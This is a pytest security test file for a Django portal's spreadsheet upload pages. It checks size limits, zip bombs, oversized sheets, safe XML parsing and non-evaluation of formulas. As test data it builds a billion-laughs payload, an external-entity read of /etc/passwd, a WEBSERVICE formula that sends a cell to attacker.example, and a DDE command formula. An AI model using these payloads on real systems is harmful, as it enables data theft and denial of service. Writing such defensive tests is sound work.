"""Uploads: size limits on every upload page, files checked by content, zip bombs,
sheets too large for memory, XML parsed safely, and formulas never evaluated.

The attacks and what each gets:
- a file over the size limit (district forms 5 MB, the registry 100 MB, both set in the
  environment): the form says how large it is and what the limit is; nothing is kept;
- a picture, a text file or a broken zip named .xlsx: "not an Excel file" / "broken";
- a zip bomb (unpacks past WORKBOOK_MAX_UNCOMPRESSED_BYTES): refused by its size;
- a zip that understates its sizes to pass that check: refused while unpacking;
- one value in A1 and one in XFD1048576 (5 KB, 17 billion cells for the reader), or a
  value typed in row 1,048,576: refused, naming the far cell (otop_portal.uploads.
  check_extent; see test_the_reader_survives_a_sheet_that_reaches_the_last_cell);
- XML entities (billion laughs) or an external entity in a sheet: refused, never expanded;
- a formula: read as the value Excel saved with it, never evaluated.
"""

from __future__ import annotations

import html
import io
import re
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from django import forms
from django.test import Client, override_settings
from django.urls import reverse

from otop_portal import uploads
from otop_portal.spreadsheet import SpreadsheetError, column_letter, open_workbook
from tests.security.conftest import data_fingerprint, upload, xlsx

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def far_cell_workbook(row: int, col: int, *, sheet: str = "Sheet1") -> bytes:
    """A workbook with a value in A1 and one at (row, col), written without writing the
    rows between (xlsxwriter in constant_memory mode)."""
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"constant_memory": True})
    ws = book.add_worksheet(sheet)
    ws.write(0, 0, "รหัส")
    ws.write(row, col, "x")
    book.close()
    return out.getvalue()


def rezip(data: bytes, changes: dict[str, bytes]) -> bytes:
    """The same zip with some members replaced or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as zin,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        names = zin.namelist()
        for name in names:
            zout.writestr(name, changes.get(name, zin.read(name)))
        for name in changes.keys() - set(names):
            zout.writestr(name, changes[name])
    return out.getvalue()


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode()


def with_sheet_data(data: bytes, rows_xml: str) -> bytes:
    """An .xlsx whose first sheet's <sheetData> is replaced by `rows_xml`."""
    xml = sheet_xml(data)
    xml = re.sub(
        r"<sheetData>.*</sheetData>|<sheetData/>",
        f"<sheetData>{rows_xml}</sheetData>",
        xml,
        flags=re.S,
    )
    return rezip(data, {"xl/worksheets/sheet1.xml": xml.encode()})


def zip_bomb(size: int) -> bytes:
    """A real .xlsx with an extra member of `size` zero bytes (compresses ~1000:1)."""
    return rezip(xlsx([["a"]]), {"xl/media/zeros.bin": b"\0" * size})


def understated_bomb(size: int) -> bytes:
    """An .xlsx whose sheet inflates to `size` bytes (padded with spaces) but whose zip
    headers declare 10 bytes: it passes a check of the declared sizes."""
    base = xlsx([["a"]])
    xml = sheet_xml(base).replace("<sheetData>", " " * size + "<sheetData>", 1)
    data = bytearray(rezip(base, {"xl/worksheets/sheet1.xml": xml.encode()}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
    real, fake = info.file_size.to_bytes(4, "little"), (10).to_bytes(4, "little")
    # The uncompressed size in the local header, and in the central directory entry.
    data[info.header_offset + 22 : info.header_offset + 26] = fake
    central = data.find(b"PK\x01\x02")
    while central != -1:
        if data[central + 24 : central + 28] == real:
            data[central + 24 : central + 28] = fake
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


# ---------------------------------------------------------------------------
# otop_portal.uploads.check_upload and the form field
# ---------------------------------------------------------------------------


class TestCheckUpload:
    def file(self, content: bytes, name: str = "form.xlsx"):
        from django.core.files.uploadedfile import SimpleUploadedFile

        return SimpleUploadedFile(name, content)

    def test_it_accepts_a_real_workbook_and_leaves_it_at_its_start(self, settings):
        f = self.file(xlsx([["a", 1]]))
        assert uploads.check_upload(f, kind=uploads.DISTRICT) == "xlsx"
        assert f.tell() == 0

    def test_it_refuses_a_file_over_the_limit_of_its_kind(self, settings):
        settings.DISTRICT_UPLOAD_MAX_BYTES = 1024 * 1024
        settings.REGISTRY_UPLOAD_MAX_BYTES = 4 * 1024 * 1024
        big = self.file(b"PK\x03\x04" + b"0" * (2 * 1024 * 1024), "ใหญ่.xlsx")
        with pytest.raises(forms.ValidationError) as exc:
            uploads.check_upload(big, kind=uploads.DISTRICT)
        assert exc.value.messages == [
            "ไฟล์ ใหญ่.xlsx มีขนาด 2.0 MB ใหญ่เกินกว่าที่รับได้ (1.0 MB) กรุณาลบแผ่นงานหรือแถวที่ไม่ใช้ออกแล้วบันทึกใหม่"
        ]
        # The registry's limit is larger: the same file fails only on its content.
        with pytest.raises(forms.ValidationError) as exc:
            uploads.check_upload(big, kind=uploads.REGISTRY)
        assert exc.value.code == "not_spreadsheet"

    def test_it_refuses_a_picture_named_xlsx(self):
        with pytest.raises(forms.ValidationError) as exc:
            uploads.check_upload(self.file(PNG), kind=uploads.DISTRICT)
        assert "ไม่ใช่ไฟล์ Excel" in exc.value.messages[0]

    def test_it_refuses_csv_where_only_workbooks_are_read(self):
        with pytest.raises(forms.ValidationError) as exc:
            uploads.check_upload(
                self.file("รหัส,ชื่อ\n1,ก\n".encode(), "form.csv"), kind=uploads.DISTRICT
            )
        assert exc.value.messages == [
            "ไฟล์ form.csv เป็นไฟล์ CSV แต่ที่นี่รับเฉพาะ Excel (.xlsx), Excel 97-2003 (.xls), "
            "OpenDocument (.ods)"
        ]
        assert (
            uploads.check_upload(
                self.file(b"a,b\n1,2\n", "r.csv"), kind=uploads.REGISTRY, accept=("xlsx", "csv")
            )
            == "csv"
        )

    def test_it_refuses_a_zip_bomb_by_its_uncompressed_size(self, settings):
        settings.WORKBOOK_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
        with pytest.raises(forms.ValidationError) as exc:
            uploads.check_upload(self.file(zip_bomb(3 * 1024 * 1024)), kind=uploads.DISTRICT)
        assert "เมื่อคลายออกจะมีขนาดเกิน 1 MB" in exc.value.messages[0]


def test_the_upload_handler_stops_keeping_a_file_past_the_largest_limit(
    client, world, officer, settings, tmp_path
):
    """With UploadLimitHandler first in FILE_UPLOAD_HANDLERS, a file past every limit is
    not written out in full, and the form still names its real size."""
    from surveys.models import SurveyUpload

    settings.DISTRICT_UPLOAD_MAX_BYTES = 64 * 1024
    settings.REGISTRY_UPLOAD_MAX_BYTES = 128 * 1024
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 16 * 1024
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    handlers = [
        "otop_portal.uploads.UploadLimitHandler",
        "django.core.files.uploadhandler.MemoryFileUploadHandler",
        "django.core.files.uploadhandler.TemporaryFileUploadHandler",
    ]
    big = b"PK\x03\x04" + b"0" * (1024 * 1024)
    client.force_login(officer)
    url = reverse("surveys:upload", args=[world.round.code, "5607"])
    with override_settings(FILE_UPLOAD_HANDLERS=handlers):
        response = client.post(url, {"file": upload(big, "big.xlsx")})
        assert response.status_code == 400
        assert "ใหญ่เกินกว่าที่รับได้" in response.content.decode()
        assert not SurveyUpload.objects.filter(original_name="big.xlsx").exists()
        # A file within the limits passes through untouched.
        small = xlsx([["ไม่ใช่แบบสำรวจ"]])
        response = client.post(url, {"file": upload(small, "small.xlsx")})
        assert response.status_code == 422  # read, and refused for its content
        record = SurveyUpload.objects.get(original_name="small.xlsx")
        # The refusal is recorded with the file's true size; the refused file is not kept.
        assert record.summary["size"] == len(small)
        assert not record.file


# ---------------------------------------------------------------------------
# Sheets too large for the reader's memory
# ---------------------------------------------------------------------------


class TestCheckExtent:
    def test_the_samples_pass(self, samples):
        for path in sorted(samples.glob("*.xlsx")):
            uploads.check_extent(path.read_bytes())

    def test_it_refuses_a_value_in_the_last_cell_and_names_it(self):
        with pytest.raises(SpreadsheetError) as exc:
            uploads.check_extent(far_cell_workbook(1048575, 16383, sheet="แบบสำรวจ"))
        assert exc.value.message.startswith(
            "แผ่นงาน “แบบสำรวจ” มีข้อมูลไปถึงช่อง XFD1048576 (17,179,869,184 ช่อง)"
        )

    def test_it_refuses_a_value_typed_in_the_last_row(self):
        with pytest.raises(SpreadsheetError) as exc:
            uploads.check_extent(far_cell_workbook(1048575, 15))
        assert "P1048576" in exc.value.message

    def test_it_lets_a_country_sized_sheet_through(self, settings):
        settings.WORKBOOK_MAX_CELLS = 10_000_000
        uploads.check_extent(far_cell_workbook(199_999, 19))

    def test_it_follows_rows_and_cells_without_an_address(self):
        """calamine puts a row or cell without r after the previous one: 5,000 empty rows
        then a row of 3,000 cells is 15 million cells, whatever the addresses say."""
        rows = (
            "<row/>" * 5000 + "<row>" + '<c t="inlineStr"><is><t>x</t></is></c>' * 3000 + "</row>"
        )
        data = with_sheet_data(
            xlsx([["a"]]), '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>' + rows
        )
        with pytest.raises(SpreadsheetError) as exc:
            uploads.check_extent(data)
        assert f"{column_letter(2999)}5002" in exc.value.message

    def test_it_is_not_fooled_by_a_cell_hidden_in_a_comment_or_a_prefix(self):
        base = xlsx([["a"]])
        far = (
            '<x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'r="XFD1048576" t="inlineStr"><x:is><x:t>b</x:t></x:is></x:c>'
        )
        data = with_sheet_data(
            base,
            f'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c>'
            f'<!-- <c r="A2"> -->{far}</row>',
        )
        with pytest.raises(SpreadsheetError) as exc:
            uploads.check_extent(data)
        assert "XFD1048576" in exc.value.message

    def test_it_refuses_a_zip_that_understates_its_sizes(self, settings):
        settings.WORKBOOK_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
        data = understated_bomb(3 * 1024 * 1024)
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            assert sum(i.file_size for i in zf.infolist()) < 1024 * 1024  # passes sniff
        with pytest.raises(SpreadsheetError):
            uploads.check_extent(data)

    def test_it_refuses_an_ods_with_a_million_repeated_rows(self):
        content = (
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
            '<office:spreadsheet><table:table table:name="แบบสำรวจ">'
            '<table:table-row><table:table-cell office:value-type="string"><text:p>a</text:p>'
            "</table:table-cell></table:table-row>"
            '<table:table-row table:number-rows-repeated="1048570"><table:table-cell/>'
            "</table:table-row><table:table-row><table:table-cell "
            'table:number-columns-repeated="15"/><table:table-cell office:value-type="string">'
            "<text:p>b</text:p></table:table-cell></table:table-row></table:table>"
            "</office:spreadsheet></office:body></office:document-content>"
        )
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as zf:
            zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            zf.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        with pytest.raises(SpreadsheetError) as exc:
            uploads.check_extent(out.getvalue())
        assert "“แบบสำรวจ”" in exc.value.message and "P1048572" in exc.value.message

    def test_it_refuses_an_ods_with_xml_entities(self):
        content = (
            '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa">'
            '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&b;'
            "</office:document-content>"
        )
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as zf:
            zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            zf.writestr("content.xml", content)
        with pytest.raises(SpreadsheetError):
            uploads.check_extent(out.getvalue())

    def test_it_refuses_a_damaged_stream_as_broken(self):
        data = bytearray(xlsx([[f"ผลิตภัณฑ์ {i}" for i in range(12)] for _ in range(50)]))
        with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
            info = zf.getinfo("xl/worksheets/sheet1.xml")
        middle = info.header_offset + 30 + len(info.filename) + info.compress_size // 2
        data[middle : middle + 8] = b"\xff" * 8
        with pytest.raises(SpreadsheetError) as exc:
            uploads.check_extent(bytes(data))
        assert "เสียหาย" in exc.value.message


READ_IN_A_CHILD = textwrap.dedent(
    """
    import os, resource, sys
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "otop_portal.settings")
    os.environ.setdefault("SECRET_KEY", "x")
    sys.path.insert(0, sys.argv[2])
    import django
    django.setup()
    resource.setrlimit(resource.RLIMIT_AS, (3 * 1024 ** 3, 3 * 1024 ** 3))
    from otop_portal.spreadsheet import SpreadsheetError, column_letter, open_workbook
    try:
        open_workbook(sys.argv[1])
    except SpreadsheetError as exc:
        print("refused:", exc.message)
    else:
        print("read")
    """
)


def test_the_reader_survives_a_sheet_that_reaches_the_last_cell(tmp_path):
    """A 5 KB .xlsx with values in A1 and XFD1048576 makes python-calamine ask for 17
    billion cells: the process aborts (SIGABRT), which no `except` can catch. It runs
    here in a child process with 3 GB of address space. The reader must refuse the file
    with a message before calamine opens it (otop_portal.uploads.check_extent)."""
    path = tmp_path / "far.xlsx"
    path.write_bytes(far_cell_workbook(1048575, 16383))
    root = str(Path(__file__).resolve().parents[2])
    done = subprocess.run(
        [sys.executable, "-c", READ_IN_A_CHILD, str(path), root],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, (
        f"the reader died (exit {done.returncode}) on a 5 KB workbook: open_workbook must call "
        "otop_portal.uploads.check_extent(data, kind) before calamine opens the file"
    )
    assert done.stdout.startswith("refused:") and "XFD1048576" in done.stdout


# ---------------------------------------------------------------------------
# XML parsed safely, formulas never evaluated
# ---------------------------------------------------------------------------


def test_openpyxl_parses_xml_with_defusedxml():
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML is True


LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
    '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
    '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">'
    '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">'
    '<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">'
    '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)
EXTERNAL = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&secret;</t></is></c></row></sheetData></worksheet>'
)


@pytest.mark.parametrize("xml", [LAUGHS, EXTERNAL], ids=["billion-laughs", "external-entity"])
def test_xml_entities_in_a_sheet_are_never_expanded(xml):
    data = rezip(xlsx([["a"]]), {"xl/worksheets/sheet1.xml": xml.encode()})
    with pytest.raises(SpreadsheetError):
        uploads.check_extent(data)
    try:
        book = open_workbook(io.BytesIO(data))
    except SpreadsheetError:
        return  # refused: fine
    text = "".join(str(c) for s in book.sheets for row in s.rows for c in row)
    assert "lollol" not in text and "root:" not in text


def test_openpyxl_refuses_xml_entities():
    """The portal's own templates and the admin's import (django-import-export) read
    with openpyxl, which must refuse a DTD rather than expand it."""
    import openpyxl

    data = rezip(xlsx([["a"]]), {"xl/worksheets/sheet1.xml": LAUGHS.encode()})
    with pytest.raises(Exception) as exc:
        openpyxl.load_workbook(io.BytesIO(data))
    assert "lollol" not in str(exc.value)


def test_a_formula_is_read_as_its_saved_value_never_evaluated():
    """Excel saves each formula's last value with it; the reader takes that value. A
    formula that would reach out (WEBSERVICE, a DDE link) is never run."""
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    ws = book.add_worksheet("Sheet1")
    ws.write_formula(0, 0, "=1+1", None, 7)  # a stale cached value, on purpose
    ws.write_formula(1, 0, '=WEBSERVICE("http://attacker.example/?"&B1)', None, "ค่าที่บันทึกไว้")
    ws.write_formula(2, 0, "=cmd|' /C calc'!A0", None, 0)
    ws.write(0, 1, "secret")
    book.close()
    rows = open_workbook(io.BytesIO(out.getvalue())).sheets[0].rows
    assert [r[0] for r in rows] == [7, "ค่าที่บันทึกไว้", 0]


# ---------------------------------------------------------------------------
# Every upload page
# ---------------------------------------------------------------------------


def _import_export_format(model, name: str) -> str:
    from django.contrib import admin

    formats = admin.site._registry[model].get_import_formats()
    return str(next(i for i, f in enumerate(formats) if f().get_extension() == name.lower()))


def _upload_pages(world):
    """(name, url, user fixture, other fields, file field) of every page that takes a file."""
    from products.models import Entrepreneur, Product, Target

    r, district = world.round.code, world.mine.district
    pages = [
        ("surveys:upload", reverse("surveys:upload", args=[r, district]), "officer", {}, "file"),
        ("reports:upload", reverse("reports:upload", args=[r, district]), "officer", {}, "file"),
        (
            "products:targets_import",
            reverse("products:targets_import", args=[r, "56"]),
            "province_staff",
            {},
            "file",
        ),
        (
            "admin:products_registrysnapshot_import",
            reverse("admin:products_registrysnapshot_import"),
            "admin",
            {"as_of": "2021-04-01", "dry_run": "on"},
            "file",
        ),
    ]
    for model, name in ((Entrepreneur, "entrepreneur"), (Product, "product"), (Target, "target")):
        pages.append(
            (
                f"admin:products_{name}_import",
                reverse(f"admin:products_{name}_import"),
                "admin",
                {"resource": "0", "format": _import_export_format(model, "XLSX")},
                "import_file",
            )
        )
    return pages


UPLOAD_PAGES = [
    "surveys:upload",
    "reports:upload",
    "products:targets_import",
    "admin:products_registrysnapshot_import",
    "admin:products_entrepreneur_import",
    "admin:products_product_import",
    "admin:products_target_import",
]


def test_every_page_that_takes_a_file_is_checked_here(matrix, admin):
    """Every page of the portal and every admin import page, opened by an administrator:
    those with a file input are the ones UPLOAD_PAGES lists."""
    from django.contrib import admin as django_admin

    from tests.security.test_permission_matrix import ACCESS, ROUTES, url_for

    client = Client()
    client.force_login(admin)
    urls = {
        r.name: url_for(r, matrix, district=matrix.mine)
        for r in ROUTES
        if r.name in ACCESS and ACCESS[r.name][0]
    }
    for model in django_admin.site._registry:
        info = (model._meta.app_label, model._meta.model_name)
        for suffix in ("import", "add"):
            try:
                urls[f"admin:{info[0]}_{info[1]}_{suffix}"] = reverse(
                    f"admin:{info[0]}_{info[1]}_{suffix}"
                )
            except Exception:  # noqa: BLE001 - the admin has no such page
                continue
    with_files = set()
    for url in urls.values():
        response = client.get(url, follow=True)
        if response.status_code == 200 and response.get("Content-Type", "").startswith("text/html"):
            if re.search(r'<input[^>]+type="file"', response.content.decode()):
                with_files.add(response.resolver_match.view_name)
    assert with_files <= set(UPLOAD_PAGES) | {"products:targets"}, (
        f"pages with a file input that test_uploads does not check: "
        f"{sorted(with_files - set(UPLOAD_PAGES))}"
    )


def _page_text(response) -> str:
    return html.unescape(re.sub(r"<[^>]+>", " ", response.content.decode()))


ATTACKS = {
    # name: (content, file name, words the page must show)
    "too-large": (None, "ใหญ่.xlsx", ("ใหญ่เกิน",)),
    "picture": (PNG, "form.xlsx", ("ไม่ใช่ไฟล์ Excel", "ใช้ไม่ได้")),
    "truncated-zip": (None, "form.xlsx", ("เสียหาย", "ใช้ไม่ได้")),
    "zip-bomb": (None, "form.xlsx", ("เมื่อคลายออกจะมีขนาดเกิน",)),
}


@pytest.mark.parametrize("attack", list(ATTACKS))
@pytest.mark.parametrize("page", UPLOAD_PAGES)
def test_every_upload_page_refuses_a_bad_file_clearly_and_changes_nothing(
    page, attack, matrix, settings, request
):
    settings.DISTRICT_UPLOAD_MAX_BYTES = 200 * 1024
    settings.REGISTRY_UPLOAD_MAX_BYTES = 300 * 1024
    settings.WORKBOOK_MAX_UNCOMPRESSED_BYTES = 2 * 1024 * 1024
    content, name, words = ATTACKS[attack]
    if attack == "too-large":
        content = xlsx([["x" * 100] for _ in range(10)]) + b"\0" * (400 * 1024)
    elif attack == "truncated-zip":
        real = xlsx([["รหัส", "ชื่อ"], ["1", "ก"]])
        content = real[: len(real) // 2]
    elif attack == "zip-bomb":
        content = zip_bomb(4 * 1024 * 1024)
    _name, url, who, fields, field = next(p for p in _upload_pages(matrix) if p[0] == page)
    client = Client()
    client.force_login(request.getfixturevalue(who))
    before = data_fingerprint()
    response = client.post(url, {**fields, field: upload(content, name)})
    assert response.status_code < 500
    text = _page_text(response)
    assert any(w in text for w in words), (
        f"{page} does not say why it refused the {attack} file ({words}): "
        f"{' '.join(text.split())[:600]}"
    )
    assert data_fingerprint() == before
